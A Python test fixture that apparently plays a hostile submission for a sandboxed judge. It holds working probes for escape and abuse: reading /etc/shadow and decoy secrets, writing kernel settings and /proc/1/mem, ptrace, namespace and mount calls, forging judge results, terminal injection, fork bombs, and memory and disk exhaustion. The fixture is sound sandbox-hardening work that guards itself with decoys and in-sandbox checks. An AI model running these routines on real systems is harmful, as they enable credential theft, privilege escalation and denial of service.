"""A submission that attacks: each function tries one thing and returns what it got, for the judge's side to look at.

Without a sandbox some of these run as well, to see that they are attacks at all. So whatever they write to or signal
is a decoy that the test made for them; what could do harm runs only where process 1 is bubblewrap's; and nothing at
all is tried as root.
"""

import contextlib
import ctypes
import errno
import fcntl
import json
import os
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

Attack = Callable[..., Any]
DECOYS: dict[str, Any] = {}
libc = ctypes.CDLL(None, use_errno=True)


def call(number: int, *arguments: Any) -> int | str:
    """A system call by its number on x86-64. Returns 0 for success, else the name of the error."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    if libc.syscall(ctypes.c_long(number), *words) >= 0:
        return 0
    return errno.errorcode.get(ctypes.get_errno(), "?")


def tried(function: Attack, *arguments: Any) -> dict[str, Any]:
    try:
        got = function(*arguments)
        return {"got": got if isinstance(got, (int, str, list, dict, bool, type(None))) else True}
    except Exception as error:
        number = getattr(error, "errno", None)
        return {"error": (number and errno.errorcode.get(number)) or type(error).__name__}


def text(path: str, length: int = 200) -> str:
    with open(path, errors="replace") as file:
        return file.read()[:length]


def write(path: str, mode: str = "a") -> bool:
    with open(path, mode) as file:
        file.write("x")
    return True


def connect(family: int, address: Any, kind: int = socket.SOCK_STREAM) -> bool:
    with socket.socket(family, kind) as s:
        s.settimeout(1)
        s.connect(address)
        s.send(b"stolen")
    return True


def in_child(function: Attack) -> Any:
    """What `function` returns in a child, so that this process stays what it is."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(writing, json.dumps(tried(function)).encode())
        finally:
            os._exit(0)
    os.close(writing)
    data = b""
    while block := os.read(reading, 4096):
        data += block
    os.close(reading)
    os.waitpid(child, 0)
    return json.loads(data or b"{}")


def inside_only(function: Attack) -> Attack:
    """Not to be tried unless it is certain that it can only hit the sandbox."""

    def guarded() -> Any:
        if text("/proc/1/comm").strip() != "bwrap":
            return "not in a sandbox"
        return function()

    return guarded


# -- files


def read_server_data() -> Any:
    return tried(text, DECOYS["secret"])


def read_tests() -> Any:
    return tried(text, DECOYS["tests"])


def read_system_accounts() -> Any:
    return [tried(text, path) for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname")]


def list_homes() -> Any:
    return [tried(os.listdir, path) for path in (DECOYS["home"], "/root", "/home", "/var", "/etc/ssh", "/run")]


def look_beside_the_submission() -> Any:
    return tried(os.listdir, os.path.dirname(os.getcwd()))


def write_outside() -> Any:
    return tried(write, DECOYS["writable"])


def write_to_the_submission() -> Any:
    return tried(write, "neighbours-can-read-this", "w")


@inside_only
def write_to_the_system() -> Any:
    return [tried(write, f"{place}/subcli-attack", "w") for place in ("", "/usr", "/dev", "/proc", "/etc", "/bin")]


def follow_a_symlink() -> Any:
    link = f"/tmp/subcli-link-{os.getpid()}"
    os.symlink(DECOYS["secret"], link)
    got = tried(text, link)
    os.unlink(link)
    return got


def make_a_hard_link() -> Any:
    name = os.path.join(os.path.dirname(DECOYS["secret"]), "hard")
    return tried(os.link, DECOYS["secret"], name)


def climb_through_proc() -> Any:
    return [tried(text, f"/proc/{pid}/root{DECOYS['secret']}") for pid in (1, os.getppid())]


@inside_only
def write_kernel_settings() -> Any:
    return [
        tried(write, path)
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj")
    ]


@inside_only
def write_to_the_first_process() -> Any:
    return tried(lambda: os.close(os.open("/proc/1/mem", os.O_RDWR)))


def open_devices() -> Any:
    return [
        tried(lambda p=p: os.close(os.open(p, os.O_RDONLY)))
        for p in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/kvm", "/dev/fuse")
    ]


def allocate_at_once() -> Any:
    """Disk space by the gigabyte, between two looks of whoever watches it."""
    with open("/tmp/subcli-allocated", "wb") as file:
        return {"error": call(285, file.fileno(), 0, 0, 1 << 20)}


def make_a_device() -> Any:
    return tried(os.mknod, "/tmp/subcli-disk", 0o600 | 0o060000, os.makedev(254, 0))


def open_by_handle() -> Any:
    return [call(303, -100, b"/", None, None, 0), call(304, -1, None, 0)]


# -- network


def connect_tcp() -> Any:
    return tried(connect, socket.AF_INET, ("127.0.0.1", DECOYS["port"]))


def send_udp() -> Any:
    def send() -> Any:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"stolen", ("127.0.0.1", DECOYS["udp"]))
        return True

    return tried(send)


def ask_dns() -> Any:
    return tried(socket.gethostbyname, "example.com")


def connect_abstract() -> Any:
    return tried(connect, socket.AF_UNIX, "\0" + DECOYS["abstract"])


def connect_unix() -> Any:
    return tried(connect, socket.AF_UNIX, DECOYS["unix"])


def interfaces() -> Any:
    return tried(lambda: [name for _, name in socket.if_nameindex()])


def odd_sockets() -> Any:
    alone = [tried(lambda f=f, k=k: socket.socket(f, k).close()) for f, k in ((17, 3), (40, 1), (38, 5))]
    # Those of AF_TIPC come in pairs; the others are made all the same, and then found not to.
    pairs = [{"error": call(53, f, k, 0, ctypes.create_string_buffer(8))} for f, k in ((30, 5), (40, 1), (38, 5))]
    return alone + pairs


def open_sockets() -> Any:
    """Loopback connections hold memory that no process maps, and that control groups of version 1 do not count."""
    families = (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.AF_NETLINK)
    return [tried(lambda f=f, k=k: socket.socket(f, k).close()) for f in families for k in (1, 2)]


def pass_descriptors() -> Any:
    """Files in flight are held by no process, and counted for each user of the machine."""
    left, right = socket.socketpair()
    with left, right:
        return tried(socket.send_fds, left, [b"x"], [0] * 200)


def enlarge_buffers() -> Any:
    left, right = socket.socketpair()
    reading, writing = os.pipe()
    with left, right, os.fdopen(reading), os.fdopen(writing, "w"):
        return [
            tried(left.setsockopt, socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22),
            tried(right.setsockopt, socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22),
            tried(fcntl.fcntl, writing, 1031, 1 << 20),
        ]


def name_a_socket() -> Any:
    left, right = socket.socketpair()
    with left, right:
        return [
            tried(left.bind, "\0subcli-attack"),
            tried(left.bind, f"/tmp/subcli-socket-{os.getpid()}"),
            tried(left.connect, "\0subcli-attack"),
        ]


# -- processes


def environment() -> Any:
    return {"names": sorted(os.environ), "file": text("/proc/self/environ")}


def see_processes() -> Any:
    names = [name for name in os.listdir("/proc") if name.isdigit()]
    return {"count": len(names), "victim": tried(text, f"/proc/{DECOYS['victim']}/environ")}


def signal_others() -> Any:
    return tried(os.kill, DECOYS["victim"], signal.SIGUSR1)


def trace() -> Any:
    def attach() -> Any:
        child = os.fork()
        if child == 0:
            time.sleep(2)
            os._exit(0)
        result = call(101, 16, child, 0, 0)
        if result == 0:
            os.waitpid(child, 0)
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
        return result

    return attach()


def read_memory_of_others() -> Any:
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    return call(310, os.getpid(), vector, 1, vector, 1, 0)


def descriptors() -> Any:
    found = {}
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            found[name] = os.readlink(f"/proc/self/fd/{name}")
    return found


@inside_only
def forge_results() -> Any:
    line = json.dumps(
        {"record": "finished", "id": "x", "name": "FORGED", "type": "functional", "status": "passed", "duration_ms": 0}
    )
    written = 0
    for pid in ("self", os.getppid(), 1):
        for fd in range(3, 64):
            try:
                handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(handle, line.encode() + b"\n")
                os.close(handle)
            except OSError:
                continue
    for fd in range(5, 64):
        try:
            os.write(fd, line.encode() + b"\n")
            written += 1
        except OSError:
            continue
    return written


def become_root() -> Any:
    privileges = text("/proc/self/status", 4_000).count("NoNewPrivs:\t1")
    return [in_child(lambda: os.setuid(0)), in_child(lambda: os.setgroups([0])), privileges]


def capabilities() -> Any:
    status = dict(line.split(":", 1) for line in text("/proc/self/status", 4_000).splitlines())
    return [status[name].strip() for name in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp")]


# -- the kernel


def namespaces() -> Any:
    flags = (0x10000000, 0x00020000, 0x40000000, 0x20000000)
    return [in_child(lambda f=f: call(272, f)) for f in flags]


def namespaces_by_clone() -> Any:
    def clone() -> Any:
        result = libc.syscall(ctypes.c_long(56), ctypes.c_long(0x10000000 | signal.SIGCHLD), None, None, None, None)
        if result == 0:
            os._exit(0)
        return 0 if result > 0 else errno.errorcode[ctypes.get_errno()]

    return [clone(), call(435, (ctypes.c_long * 11)(0x10000000), 88)]


def enter_a_namespace() -> Any:
    return tried(lambda: call(308, os.open("/proc/1/ns/user", os.O_RDONLY), 0))


@inside_only
def mount() -> Any:
    # A directory of its own: where it worked, it would cover nothing else.
    here = b"/tmp/subcli-point"
    os.mkdir(here)
    return in_child(
        lambda: [call(165, b"none", here, b"tmpfs", 0, None), call(430, b"tmpfs", 0), call(155, here, here)]
    )


def keyrings() -> Any:
    return [
        call(248, b"user", b"subcli-attack", b"secret", 6, -4),
        call(250, 0, -3, 1),
        call(249, b"user", b"subcli-attack", None, -4),
    ]


@inside_only
def exotic_calls() -> Any:
    numbers = {
        "bpf": 321,
        "userfaultfd": 323,
        "io_uring_setup": 425,
        "perf_event_open": 298,
        "kexec_load": 246,
        "init_module": 175,
        "syslog": 103,
        "memfd_create": 319,
        "shmget": 29,
        "msgget": 68,
        "sysinfo": 99,
        "inotify_init1": 294,
        "pidfd_getfd": 438,
        "kcmp": 312,
        "newest": 999,
    }
    block = ctypes.create_string_buffer(256)
    return {name: call(number, block, 0, 0, 0, 0) for name, number in numbers.items()}


@inside_only
def type_into_the_terminal() -> Any:
    master = None
    for path in ("/dev/tty", "/dev/ptmx"):
        try:
            master = os.open(path, os.O_RDWR | os.O_NOCTTY)
        except OSError:
            continue
    if master is None:
        return "no terminal"
    try:
        fcntl.ioctl(master, 0x5412, b"x")
        return "typed"
    except OSError as error:
        return errno.errorcode[error.errno or 0]


def change_the_personality() -> Any:
    return in_child(lambda: call(135, 0x0400000))


@inside_only
def shared_memory_stays() -> Any:
    return call(29, 0x5EC2E7, 4096, 0o1666)


# -- other submissions, and nodes of the same one


def loads() -> Any:
    return {
        "loadavg": tried(lambda: text("/proc/loadavg").split()[0]),
        "stat": text("/proc/stat").split("\n")[0],
        "uptime": tried(text, "/proc/uptime"),
        "locks": tried(text, "/proc/locks"),
        "pressure": tried(os.listdir, "/proc/pressure"),
        "sysinfo": call(99, ctypes.create_string_buffer(256)),
    }


def open_a_terminal() -> Any:
    """Pseudo-terminals are numbered, and their number is limited, for the whole machine."""
    return [tried(lambda p=p: os.close(os.open(p, os.O_RDWR | os.O_NOCTTY))) for p in ("/dev/ptmx", "/dev/pts/ptmx")]


def count_what_others_do() -> Any:
    """Files of /proc that change with what the machine does, and none of which is a process's."""
    found = {}
    for name in ("fs", "irq", "bus", "tty", "driver"):
        found[name] = tried(os.listdir, f"/proc/{name}")
    speeds = {line for line in text("/proc/cpuinfo", 100_000).splitlines() if line.startswith("cpu MHz")}
    return {"listed": found, "speeds": sorted(speeds)}


def queue_signals() -> Any:
    """As many as one user may have pending, so that the next node's are refused."""
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
    queued = 0
    # siginfo_t with SI_QUEUE
    block = struct.pack("iii", signal.SIGRTMIN, 0, -1).ljust(128, b"\0")
    while queued < 10_000 and call(129, os.getpid(), int(signal.SIGRTMIN), block) == 0:
        queued += 1
    return queued


def use_up_requests() -> Any:
    """Asynchronous requests (io_setup) are limited for the whole machine."""
    context = ctypes.c_ulong(0)
    return call(206, 64, ctypes.byref(context))


def ask_what_is_cached() -> Any:
    """Whether somebody has read a page of a file, without touching it (RWF_NOWAIT)."""
    with open(sys.executable, "rb") as file:
        return tried(os.preadv, file.fileno(), [bytearray(1)], 0, 8)


def leave_a_message() -> Any:
    for place in ("/tmp", "/dev/shm"):
        with open(f"{place}/subcli-message", "w") as file:
            file.write("psst")
    with open(sys.executable) as shared:
        lock = tried(lambda: fcntl.flock(shared, fcntl.LOCK_EX | fcntl.LOCK_NB))
        record = tried(lambda: fcntl.fcntl(shared, fcntl.F_GETLK, struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 0, 0)))
        lease = tried(lambda: fcntl.fcntl(shared, fcntl.F_SETLEASE, fcntl.F_RDLCK))
    return {"lock": lock, "record": record, "lease": lease}


def name_a_pipe() -> Any:
    """One that a build leaves beside the submission would join all nodes, read-only as it is mounted there."""
    path = f"/tmp/subcli-pipe-{os.getpid()}"
    return [
        tried(os.mkfifo, path),
        tried(os.mknod, f"{path}-too", 0o010600),
        {"error": call(133, path.encode(), 0o010600, 0)},
        {"error": call(259, -100, f"{path}-at".encode(), 0x10000 | 0o010600, 0)},
    ]


def find_a_message() -> Any:
    return [os.path.exists(f"{place}/subcli-message") for place in ("/tmp", "/dev/shm")]


def control_groups() -> Any:
    return [tried(os.listdir, "/sys/fs/cgroup"), tried(write, "/sys/fs/cgroup/cgroup.procs")]


# -- too much of something; these end with the judge killing them


@inside_only
def fork_bomb() -> Any:
    """Each process in a session of its own, where there are groups of sessions for processors, and never idle."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()
            os.setsid()


@inside_only
def threads_without_end() -> Any:
    import threading

    started = 0
    try:
        for _ in range(20000):
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    return started


@inside_only
def daemons() -> Any:
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for fd in range(3):
                    os.close(fd)
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                time.sleep(60)
            os._exit(0)
        os.wait()
    return True


@inside_only
def fill_memory() -> Any:
    kept = []
    while True:
        kept.append(b"x" * 10_000_000)


@inside_only
def fill_memory_with_children() -> Any:
    for _ in range(6):
        if os.fork() == 0:
            kept = [b"x" * 1_000_000 for _ in range(50)]
            time.sleep(20)
            os._exit(len(kept) and 0)
    time.sleep(20)


@inside_only
def fill_sockets() -> Any:
    """Pairs full of what nobody reads: a quarter of a megabyte each, in the kernel."""
    for _ in range(8):
        if os.fork() == 0:
            break
    kept: list[socket.socket] = []
    with contextlib.suppress(OSError):
        while True:
            kept += socket.socketpair()
            for each in kept[-2:]:
                each.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        each.send(b"x" * 65_536)
    time.sleep(20)


def fill_place(place: str) -> Any:
    number = 0
    while True:
        number += 1
        try:
            with open(f"{place}/big-{number}", "wb") as file:
                for _ in range(200):
                    file.write(b"x" * 65_536)
        except OSError as error:
            if error.errno != errno.EFBIG:
                return {"files": number, "error": errno.errorcode[error.errno or 0]}


@inside_only
def fill_tmp() -> Any:
    return fill_place("/tmp")


@inside_only
def fill_shared_memory() -> Any:
    return fill_place("/dev/shm")


@inside_only
def use_up_inodes() -> Any:
    number = 0
    while True:
        number += 1
        os.close(os.open(f"/tmp/empty-{number}", os.O_CREAT | os.O_WRONLY))


def huge_output() -> Any:
    while True:
        sys.stdout.write("x" * 100_000 + "\n")


def output_without_newlines() -> Any:
    while True:
        sys.stdout.write("x" * 100_000)
        sys.stdout.flush()


def huge_errors() -> Any:
    while True:
        sys.stderr.write("x" * 100_000)


def terminal_escapes() -> Any:
    sys.stderr.write("\x1b[2J\x1b]0;owned\x07\x1b[31m\u202e\u200b\x9b31m\n")
    sys.stderr.flush()
    return os._exit(3)


def never_ends() -> Any:
    for number in range(1, 64):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(1)


def hangs_at_exit() -> Any:
    import atexit

    atexit.register(never_ends)
    sys.exit(0)


@inside_only
def kill_everything() -> Any:
    # Only ever run inside of a sandbox, where "everything" is itself.
    os.kill(-1, signal.SIGKILL)


def main() -> None:
    global DECOYS
    if os.geteuid() == 0:
        sys.exit("not as root")
    for line in sys.stdin:
        message = json.loads(line)
        body = message["body"]
        if body["type"] == "init":
            DECOYS = body["decoys"]
            me, answer = body["node_id"], {"type": "init_ok"}
        elif body["type"] == "attack":
            answer = {"type": "attack_ok", "got": globals()[body["name"]]()}
        else:
            answer = {"type": body["type"] + "_ok"}
        sys.stdout.write(json.dumps({"src": me, "dest": "judge", "body": answer}) + "\n")
        sys.stdout.flush()


main()
